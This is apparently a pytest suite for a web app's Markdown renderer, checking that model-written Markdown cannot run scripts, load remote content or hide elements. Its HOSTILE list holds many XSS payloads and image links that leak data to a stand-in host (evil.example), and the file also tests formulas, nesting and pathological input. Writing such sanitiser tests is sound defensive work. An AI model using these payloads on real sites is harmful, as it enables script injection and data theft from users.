"""A model's Markdown is hostile input: nothing of it runs, loads or hides."""

from __future__ import annotations

import re
from collections.abc import Callable
from html import unescape
from html.parser import HTMLParser

import pytest

from apps.core.markdown import TAGS, render_answer, render_article
from tests.strict.html import inspect

Render = Callable[[str], str]

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n[x]",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onmouseover=alert(1)>",
    '[x](https://ok.example "onmouseover=alert(1) x=\\"")',
    "![x](javascript:alert(1))",
    "![leak](https://evil.example/?q=secret)",
    "![leak](//evil.example/?q=secret)",
    "![leak][r]\n\n[r]: https://evil.example/?q=secret",
    "[![leak](https://evil.example/?q=secret)](https://evil.example)",
    "<img src=https://evil.example/?q=secret>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<div style="background:url(https://evil.example/?q=secret)">x</div>',
    "<style>@import 'https://evil.example/x.css'</style>",
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```js" onmouseover="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| [x](javascript:alert(1)) |\n|:-:|\n| ![x](https://evil.example/) |",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "* <script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
    '<div hx-get="/accounts/logout/" hx-trigger="load">x</div>',
    '<p class="toast" hx-on:click="alert(1)">x</p>',
    "::: warning\n<script>alert(1)</script>\n:::",
]  # fmt: skip


class Elements(HTMLParser):
    """The elements and attributes of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))
        if tag not in {"br", "hr"}:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open
        assert self.open.pop() == tag, "Every element is closed in order."


@pytest.mark.parametrize("render", [render_answer, render_article])
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_runs_loads_or_hides(text: str, render: object) -> None:
    html = render(text)  # type: ignore[operator]
    assert inspect(html) == []
    elements = Elements(html)
    assert elements.open == []
    for tag, attributes in elements.found:
        assert tag in TAGS
        assert set(attributes) <= {
            "href",
            "title",
            "class",
            "rel",
            "dir",
            "start",
            "role",
            "aria-label",
            "tabindex",
            "data-copy",
            "type",
        }
        href = attributes.get("href")
        if href is not None:
            assert href.split(":")[0].lower() in {"http", "https", "mailto"} or ":" not in href
            assert attributes.get("rel") == "noopener noreferrer nofollow"


def test_an_image_is_its_description_and_never_an_address() -> None:
    html = render_answer("before ![a chart](https://evil.example/?q=secret) after")
    assert "evil.example" not in html
    assert "a chart" in html


def test_lists_and_tables_nest() -> None:
    html = render_answer("1. one\n   - inner\n     - deeper\n2. two\n\n> quote\n>\n> | a | b |\n> |:--|--:|\n> | 1 | 2 |\n")
    elements = [tag for tag, _ in Elements(html).found]
    assert elements.count("ul") == 2
    assert elements.count("ol") == 1
    assert "table" in elements[elements.index("blockquote") :]
    assert 'class="align-right"' in html


def test_code_stands_as_it_was_written() -> None:
    html = render_answer("```python\nif a < b && c > d:\n    print('é')\n```")
    assert "if a &lt; b &amp;&amp; c &gt; d:" in html
    assert 'class="language-python"' in html


@pytest.mark.parametrize(
    "text",
    [
        "> " * 5_000 + "x",
        "- " * 5_000 + "x",
        "[" * 20_000,
        "*" * 20_000,
        "`" * 20_000,
        "![" * 10_000 + "](x)" * 10_000,
        "<" * 20_000,
        "| a " * 2_000 + "|\n" + "|---" * 2_000 + "|\n" + ("| b " * 2_000 + "|\n") * 5,
        "a\n" * 20_000,
        "&" * 20_000,
        "\\" * 20_000,
        "\\[ a\n" * 10_000,
        "\\(" * 10_000,
        "$a" * 20_000,
        ("> " * 60 + "- a\n") * 1_000,
    ],
    ids=[
        "quotes",
        "lists",
        "brackets",
        "stars",
        "ticks",
        "images",
        "angles",
        "wide table",
        "lines",
        "ampersands",
        "backslashes",
        "formulas",
        "formulas in a line",
        "dollars",
        "deep lines",
    ],
)
@pytest.mark.timeout(10)
def test_pathological_text_neither_hangs_nor_breaks(text: str) -> None:
    render_answer(text)


def test_half_of_an_answer_is_rendered_at_any_moment() -> None:
    text = (
        "# Title\n\n- **bold [link](https://ok.example) `code`\n\n```python\nprint(1)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    )
    for end in range(len(text)):
        assert Elements(render_answer(text[:end])).open == []


def words(html: str) -> str:
    """What a person reads of `html`, one space between words."""
    return " ".join(unescape(re.sub(r"<[^>]*>", " ", html)).split())


@pytest.mark.parametrize("render", [render_answer, render_article])
def test_what_was_struck_out_stays_struck_out(render: Render) -> None:
    html = render("Now ~~99 €~~ 79 €\n\n| Price |\n|--:|\n| ~~9,50~~ 8 |\n\n- ~~**done**~~\n")
    assert "<del>99 €</del> 79 €" in html
    assert "<del>9,50</del> 8" in html
    assert "<del><strong>done</strong></del>" in html


@pytest.mark.parametrize("render", [render_answer, render_article])
@pytest.mark.parametrize("sign", ["<br>", "<br/>", "<BR />", "<Br\t/>"])
def test_a_br_is_a_line_break_and_no_other_tag_is_anything(render: Render, sign: str) -> None:
    html = render(f"| a |\n|---|\n| one{sign}two |\n\nthree{sign}four `{sign}` <brx> <br class=x> <b>bold</b>")
    tags = [tag for tag, _ in Elements(html).found]
    assert tags.count("br") == 2
    assert "b" not in tags
    assert words(html).endswith(" ".join(f"three four {sign} <brx> <br class=x> <b>bold</b>".split()))


FORMULAS = [
    "\\(a_1 * b_2 * c_3\\)",
    "\\(\\frac{a}{b} \\% \\_ x\\)",
    "\\[x_1 + *y*\\]",
    "$$e = mc^2 _a_ _b_$$",
    "$a_1 * b * c = _d_$",
    "$x$",
    "$a*b*c$",
    "$2^{10} \\cdot _a_$",
]
FORMULA_BLOCKS = [
    "\\[\nE = mc^2\n- b *c* d\n===\n\\]",
    "$$\n\\int_0^1 *x* \\, dx\n$$",
    "$$\nx_1 *a* y_2",  # still being written
]


@pytest.mark.parametrize(
    ("around", "formula"),
    [(around, formula) for around in ("{}", "- {}", "> {}", "text\n{}") for formula in [*FORMULAS, *FORMULA_BLOCKS]]
    + [(around, formula) for around in ("Then {} is", "| {} |\n|---|\n| {} |") for formula in FORMULAS],
)
def test_a_formula_stands_as_it_was_written(around: str, formula: str) -> None:
    sign = "\n> " if around.startswith(">") else "\n  " if around.startswith("-") else "\n"
    html = render_answer(around.replace("{}", formula.replace("\n", sign)))
    assert " ".join(formula.split()) in words(html)
    found = [tag for tag, _ in Elements(html).found]
    assert not {"em", "strong", "h2", "h3"} & set(found)
    assert found.count("ul") == around.startswith("-")


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5 and *not* $10.",
        "From $1,000 to *about* $2,000$",
        "US$5 or *perhaps* CA$7",
        "between 5$ and *hardly* 6$",
        "$5-$10 for *all*, -$3 + *some* -$4",
        "$AAPL up, *then* $TSLA",
        "$ 5 *is* 5 $",
        "prices in $/kg or *in* €/$.",
        "restaurants: $$ (*cheap*) and $$ (dear), $$ – $$$",
        "set $HOME and *then* $PATH",
        "costs $5 + *tax* = 6$",
    ],
)
def test_an_amount_of_money_is_never_a_formula(text: str) -> None:
    html = render_answer(text)
    assert "<code" not in html
    assert "<em>" in html
    assert words(html) == " ".join(text.replace("*", " ").split()).replace(" )", " )")


def test_brackets_that_somebody_escaped_are_brackets() -> None:
    html = render_answer("\\[1\\] Author, \\[ \\] open, \\[x\\] done, \\[name\\](here), \\\\(a\\\\)")
    assert words(html) == "[1] Author, [ ] open, [x] done, [name](here), \\(a\\)"
    assert "code" not in html


@pytest.mark.parametrize("levels", [9, 12, 24, 25, 40, 400])
@pytest.mark.parametrize("sign", ["- ", "7. ", "> ", "> - "])
def test_nothing_is_left_out_however_deep_it_stands(levels: int, sign: str) -> None:
    lines = [" " * len(sign) * level + f"{sign}level {level}" for level in range(levels)]
    for text in ("\n".join(lines), "\n\n".join(lines), sign * levels + "level\n\nafter"):
        shown = words(render_answer(text))
        assert all(f"level {level}" in shown for level in range(levels) if text.startswith(f"{sign}level"))
        assert "level" in shown
        assert shown.endswith("after") or not text.endswith("after")


def test_lists_stand_nine_and_twenty_levels_deep() -> None:
    html = render_answer("\n\n".join("    " * level + f"{f'{level + 7}.':4}x" for level in range(20)))
    assert [attributes["start"] for tag, attributes in Elements(html).found if tag == "ol"] == [str(n + 7) for n in range(20)]


def test_each_block_finds_its_own_direction() -> None:
    text = "مرحبا\n\n# عنوان\n\n- `git` سطر\n\n> اقتباس\n\n"
    text += "1. a\n\n   b\n\n| اسم | b |\n|---|---|\n| 1 | 2 |\n\n```\ncode\n```\n\n    code\n"
    found = Elements(render_answer(text)).found
    for tag, attributes in found:
        if tag in {"h2", "li", "blockquote", "th", "td"}:
            assert attributes["dir"] == "auto"
    # The words of an item are the item's: if they had a direction of their own, it would find none.
    assert [attributes.get("dir") for tag, attributes in found if tag == "p"] == ["auto", None, None, None]
    assert [attributes.get("dir") for tag, attributes in found if tag == "table"] == ["rtl"]
    assert [attributes.get("dir") for tag, attributes in found if tag == "code"] == ["ltr", "ltr", None]
    assert [attributes.get("dir") for tag, attributes in found if tag == "pre"] == [None, "ltr"]


def test_a_link_that_leads_nowhere_shows_where_it_would_have_led() -> None:
    html = render_answer("[a](ftp://files.example/x) <tel:123> [b](https://ok.example) [c](/here?x=a:b)")
    assert words(html) == "[a](ftp://files.example/x) <tel:123> b c"


@pytest.mark.parametrize("fence", ["```", "~~~~", "> ```", "- ```", "1. ```", "  ```"])
def test_a_call_out_holds_code_that_holds_its_signs(fence: str) -> None:
    sign = fence.split()[-1]
    inside = {">": "> ", "-": "  ", "1": "   "}.get(fence[0], "")
    html = render_article(
        f"::: example\n{fence}md\n{inside}::: warning\n{inside}text\n{inside}:::\n{inside}{sign}\nlast\n:::\n\nafter"
    )
    assert html.count('role="note"') == 1
    assert "::: warning" in words(html)
    assert html.index("last") < html.index("</div>") < html.index("after")
    assert words(html).endswith("::: last after")


def test_a_piece_of_code_in_a_line_does_not_hide_the_end_of_a_call_out() -> None:
    html = render_article("::: example\n```in a line``` and more\n:::\nafter")
    assert html.index("</div>") < html.index("after")


def test_call_outs_are_for_articles_only() -> None:
    assert "callout--takeaway" in render_article("::: takeaway\nMind this.\n:::")
    assert "callout" not in render_answer("::: takeaway\nMind this.\n:::")
